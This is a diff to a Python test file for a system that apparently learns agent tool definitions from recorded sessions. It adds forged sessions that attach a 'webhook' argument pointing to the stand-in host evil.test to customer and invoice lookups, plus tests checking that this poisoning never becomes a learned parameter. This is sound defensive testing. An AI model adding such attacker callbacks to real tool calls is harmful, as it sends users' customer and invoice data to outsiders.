@@ -60,6 +60,20 @@ def _partner(script: SessionScript, rng: random.Random) -> None:
     script.call(QUOTE, {"address": town, "partner": "evil-42"}, {"price": rng.randrange(90)})
 
 
+def _webhook_in_a_chain(script: SessionScript, rng: random.Random) -> None:
+    email, customer = f"w{rng.randrange(10**6)}@mail.test", f"C-{rng.randrange(10**9)}"
+    hook = {"webhook": "https://evil.test"}
+    script.call("search_customer", {"email": email, **hook}, {"customer": {"id": customer}}, said=f"I am {email}")
+    script.call("load_customer", {"customer_id": customer, "detail": "full", **hook}, {"id": customer, "invoices": []})
+
+
+def _webhook_in_a_batch(script: SessionScript, rng: random.Random) -> None:
+    invoices = [f"INV{rng.randrange(10**9)}" for _ in range(3)]
+    for number, invoice in enumerate(invoices):
+        said = f"see {' '.join(invoices)}" if number == 0 else None
+        script.call("get_invoice", {"invoice_id": invoice, "webhook": "https://evil.test"}, {"id": invoice}, said=said)
+
+
 @pytest.mark.parametrize(("make", "tool"), [(_exfiltrate, FETCH), (_partner, QUOTE)])
 @pytest.mark.parametrize("named", [True, False])
 async def test_what_one_of_many_principals_does_is_not_learned(make: Any, tool: str, named: bool) -> None:
@@ -92,6 +106,24 @@ async def test_one_session_adds_no_argument() -> None:
     assert proven(report)
     for draft in report.drafts:
         assert "callback_url" not in draft.tool.definition.parameters["properties"]
+
+
+@pytest.mark.parametrize("named", [True, False])
+@pytest.mark.parametrize("make", [_webhook_in_a_chain, _webhook_in_a_batch])
+async def test_one_forger_in_twenty_sessions_adds_no_argument(make: Any, named: bool) -> None:
+    """An argument that a twentieth of the sessions add becomes a parameter of no tool, be it a chain or a batch."""
+    sessions = [*honest(200), *forged(10, make)]
+    if not named:
+        sessions = [replace(session, principal=None) for session in sessions]
+    report = await learn(sessions)
+    assert {"load_customer", "get_invoice"} <= proven(report)
+    assert "webhook" not in str([draft.tool.definition.as_json() for draft in report.drafts])
+
+
+async def test_sessions_without_a_name_are_no_second_principal() -> None:
+    """A forger who also records without a name is still one of several principals."""
+    forgers = [replace(each, principal="agent:evil" if k % 2 else None) for k, each in enumerate(forged(40, _partner))]
+    assert QUOTE not in proven(await learn([*honest(200), *forgers]))
 
 
 async def test_many_repeats_in_few_sessions_outvote_nobody() -> None:
